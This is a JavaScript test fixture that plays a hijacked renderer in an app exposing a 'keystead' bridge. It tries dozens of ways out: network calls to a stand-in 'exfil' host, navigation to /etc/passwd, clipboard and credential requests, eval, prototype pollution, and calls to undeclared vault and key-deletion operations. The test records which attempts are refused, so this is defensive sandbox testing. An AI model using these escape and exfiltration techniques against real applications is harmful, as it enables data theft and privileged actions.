/**
 * A renderer that was taken over, trying to get out. Each attempt returns, or resolves with, what it gained; undefined or a throw is a
 * refusal. What cannot be seen from inside (a request that left, a window that opened) the test sees from outside. `PORT` is put in by it.
 */
const PORT = '__PORT__';
const AWAY = `http://127.0.0.1:${PORT}/`;
const SECURE = `https://localhost:${PORT}/`;
const NAMED = `http://exfil-${PORT}.example.com/`;

const make = (tag, properties = {}) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
const loads = (element) =>
  new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve(undefined);
  });
const opens = (source) =>
  new Promise((resolve) => {
    source.onopen = () => resolve('open');
    source.onerror = () => resolve(undefined);
  });
const blobOf = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const ran = async (act) => {
  delete globalThis.injected;
  await act();
  await new Promise((done) => setTimeout(done, 50));
  return globalThis.injected;
};

const ATTEMPTS = {
  // ---- network
  'fetch': async () => (await fetch(AWAY, { mode: 'no-cors' })).type,
  'fetch of a name': async () => (await fetch(NAMED, { mode: 'no-cors' })).type,
  'fetch of its own origin': async () => (await fetch('/elsewhere')).status,
  'XMLHttpRequest': () => { const request = new XMLHttpRequest(); request.open('GET', AWAY, false); request.send(); return request.status; },
  'sendBeacon': () => { navigator.sendBeacon(AWAY, 'x'); },
  'WebSocket': () => opens(new WebSocket(`ws://127.0.0.1:${PORT}/`)),
  'EventSource': () => opens(new EventSource(AWAY)),
  'WebTransport': () => new WebTransport(SECURE).ready.then(() => 'ready'),
  'WebRTC': async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${PORT}` }] });
    const found = [];
    peer.onicecandidate = ({ candidate }) => candidate?.candidate && found.push(candidate.candidate);
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 600));
    return found[0];
  },
  'image': () => loads(make('img', { src: `${AWAY}image` })),
  'script of another origin': () => loads(make('script', { src: `${AWAY}script` })),
  'stylesheet of another origin': () => loads(make('link', { rel: 'stylesheet', href: `${AWAY}style` })),
  'css import': () => { const { sheet } = make('style', { textContent: `@import url('${AWAY}import');` }); return sheet === null ? undefined : 'applied'; },
  'css background': () => { document.body.style.backgroundImage = `url('${AWAY}background')`; },
  'css in a constructed sheet': async () => { const sheet = new CSSStyleSheet(); await sheet.replace(`body { background: url('${AWAY}constructed') }`); document.adoptedStyleSheets = [sheet]; },
  'font': async () => (await new FontFace('away', `url('${AWAY}font')`).load()).status,
  'audio': () => loads(make('audio', { src: `${AWAY}audio`, preload: 'auto', autoplay: true })),
  'video poster': () => { make('video', { poster: `${AWAY}poster` }); },
  'favicon': () => { make('link', { rel: 'icon', href: `${AWAY}icon` }); },
  'manifest': () => { make('link', { rel: 'manifest', href: `${AWAY}manifest` }); },
  'prefetch, preconnect, dns': () => { for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender']) make('link', { rel, href: rel === 'dns-prefetch' ? NAMED : `${AWAY}${rel}`, as: 'image' }); },
  'speculation rules': () => { make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [`${AWAY}speculation`] }] }) }); },
  'svg use': () => { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image'); svg.setAttribute('href', `${AWAY}svg`); document.body.append(svg); },
  // ---- navigation and windows
  'location': () => { location.href = AWAY; },
  'location to data': () => { location.href = 'data:text/html,gone'; },
  'location to file': () => { location.href = 'file:///etc/passwd'; },
  'location to a script url': () => ran(() => { location.href = 'javascript:globalThis.injected = "ran"'; }),
  'meta refresh': () => { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${AWAY}` })); },
  'form': () => { const form = make('form', { action: AWAY, method: 'post' }); form.submit(); },
  'link': () => { make('a', { href: AWAY, target: '_blank', rel: 'opener', textContent: 'x' }).click(); },
  'link ping': () => { make('a', { href: '#x', ping: AWAY }).click(); },
  'custom protocol': () => { make('a', { href: `mailto:a@example.com?body=x` }).click(); },
  'history to another origin': () => { history.pushState({}, '', AWAY); return location.href; },
  'window.open': () => window.open(AWAY) ?? undefined,
  'window.open of nothing': () => window.open('') ?? undefined,
  'download': () => { make('a', { href: blobOf('secret', 'text/plain'), download: 'out.txt' }).click(); },
  'print': () => { window.print(); },
  // ---- frames and workers
  'frame of another origin': () => { make('iframe', { src: AWAY }); },
  'frame with source': () => ran(() => { make('iframe').setAttribute('srcdoc', '<script>parent.injected = "ran"</script>'); }),
  'frame of a blob': () => ran(() => { make('iframe', { src: blobOf('<script>parent.injected = "ran"</script>', 'text/html') }); }),
  'bridge of an empty frame': () => { const { contentWindow } = make('iframe'); return contentWindow.keystead ?? contentWindow.__keystead; },
  'fetch of an empty frame': async () => (await make('iframe').contentWindow.fetch(AWAY, { mode: 'no-cors' })).type,
  'object': () => loads(make('object', { data: AWAY })),
  'embed': () => { make('embed', { src: AWAY }); },
  'worker': () => opens(Object.assign(new Worker(blobOf('postMessage(1)')), {})),
  'worker of its own file': () => new Promise((resolve) => { const worker = new Worker('/page.js'); worker.onmessage = () => resolve('ran'); worker.onerror = () => resolve(undefined); }),
  'shared worker': () => new Promise((resolve) => { const worker = new SharedWorker(blobOf('onconnect = ({ ports }) => ports[0].postMessage(1)')); worker.port.onmessage = () => resolve('ran'); worker.onerror = () => resolve(undefined); }),
  'service worker': () => navigator.serviceWorker.register('/page.js').then(() => 'registered'),
  'worklet': () => new AudioContext().audioWorklet.addModule(blobOf('1')).then(() => 'added'),
  // ---- code
  'eval': () => globalThis.eval('"ran"'),
  'Function': () => new Function('return "ran"')(),
  'timer of text': () => ran(() => { setTimeout('globalThis.injected = "ran"'); }),
  'inline script': () => ran(() => { make('script', { textContent: 'globalThis.injected = "ran"' }); }),
  'inner html': () => { const element = make('div'); element.innerHTML = '<b>in</b>'; return element.innerHTML; },
  'document.write': () => { document.write('<b>in</b>'); return 'written'; },
  'trusted types policy': () => trustedTypes.createPolicy('default', { createHTML: (text) => text }).name,
  'event attribute': () => ran(() => { const element = make('div'); element.setAttribute('onclick', 'globalThis.injected = "ran"'); element.click(); }),
  'import of data': () => import('data:text/javascript,export default "ran"').then((module) => module.default),
  'import of another origin': () => import(`${AWAY}module.js`).then(() => 'ran'),
  'web assembly': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled'),
  // ---- things that outlive the page
  'local storage': () => { localStorage.setItem('x', 'kept'); return localStorage.getItem('x'); },
  'session storage': () => { sessionStorage.setItem('x', 'kept'); return sessionStorage.getItem('x'); },
  'indexed db': () => new Promise((resolve) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('kept'); open.onerror = () => resolve(undefined); }),
  'cache storage': () => caches.open('x').then(() => 'kept'),
  'cookie': () => { document.cookie = 'x=kept; max-age=1000; secure'; return document.cookie || undefined; },
  'private file system': () => navigator.storage.getDirectory().then(() => 'kept'),
  'window.name': () => { window.name = 'kept'; },
  'history': () => { history.replaceState('kept', ''); history.pushState('kept', ''); },
  // ---- permissions
  'clipboard': () => navigator.clipboard.readText(),
  'camera': () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'given'),
  'screen': () => navigator.mediaDevices.getDisplayMedia().then(() => 'given'),
  'position': () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('given'), () => resolve(undefined))),
  'notification': async () => ((await Notification.requestPermission()) === 'granted' ? 'given' : undefined),
  'usb': () => navigator.usb.requestDevice({ filters: [] }).then(() => 'given'),
  'fonts': () => queryLocalFonts().then((fonts) => fonts[0]?.fullName ?? 'given'),
  'files': () => showOpenFilePicker().then(() => 'given'),
  'credentials': () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }).then(() => 'given'),
  // ---- the bridge
  'raw binding': () => globalThis.__keystead ?? Object.getOwnPropertyNames(globalThis).find((name) => name.includes('keystead') && name !== 'keystead'),
  'another bridge': () => { 'use strict'; globalThis.keystead = { invoke: () => 'mine' }; return 'replaced'; },
  'another invoke': () => { 'use strict'; globalThis.keystead.invoke = () => 'mine'; return 'replaced'; },
  'more of the bridge': () => Reflect.ownKeys(keystead).find((key) => key !== 'invoke' && key !== 'on'),
  'constructor of the bridge': () => keystead.invoke.constructor('return "ran"')(),
  'undeclared operation': async () => { const answer = await keystead.invoke('vault:Export', {}); return answer.ok ? 'answered' : undefined; },
  'prototype as an operation': async () => { const answer = await keystead.invoke('__proto__', {}); return answer.ok ? 'answered' : undefined; },
  'operation of the clock': async () => { const answer = await keystead.invoke('kms:DeleteDueKeys', {}); return answer.ok ? 'answered' : undefined; },
  'undeclared field': async () => { const answer = await keystead.invoke('vault:Status', { door: 'schedule' }); return answer.ok ? 'answered' : undefined; },
  'polluted prototypes': async () => {
    Object.defineProperty(Object.prototype, 'door', { value: 'schedule', configurable: true });
    Object.defineProperty(Object.prototype, 'toJSON', { value() { return { id: 1, op: 'vault:Stop', input: {} }; }, configurable: true });
    try {
      const answer = await keystead.invoke('kms:DeleteDueKeys', {});
      return answer.ok ? 'answered' : undefined;
    } finally {
      delete Object.prototype.door;
      delete Object.prototype.toJSON;
    }
  },
  'changed intrinsics': async () => {
    const kept = { stringify: JSON.stringify, parse: JSON.parse, then: Promise.prototype.then };
    let seen;
    JSON.stringify = (value) => { seen = 'call'; return kept.stringify(value); };
    JSON.parse = (text) => { seen = 'answer'; return kept.parse(text); };
    try {
      await keystead.invoke('vault:Status', {});
      return seen;
    } finally {
      Object.assign(JSON, { stringify: kept.stringify, parse: kept.parse });
    }
  },
};

const late = () => new Promise((resolve) => setTimeout(() => resolve(undefined), 2500));
const results = {};
globalThis.results = results;
globalThis.done = (async () => {
  await Promise.all(
    Object.entries(ATTEMPTS).map(async ([name, attempt], at) => {
      // One after the other begins, so that those that look at the page's own state do not see each other's.
      await new Promise((resolve) => setTimeout(resolve, at * 60));
      try {
        results[name] = (await Promise.race([Promise.resolve(attempt()), late()])) ?? 'refused';
      } catch (error) {
        results[name] = 'refused';
      }
      results[name] = typeof results[name] === 'string' ? results[name] : `got ${typeof results[name]}: ${String(results[name])}`;
    }),
  );
  return results;
})();
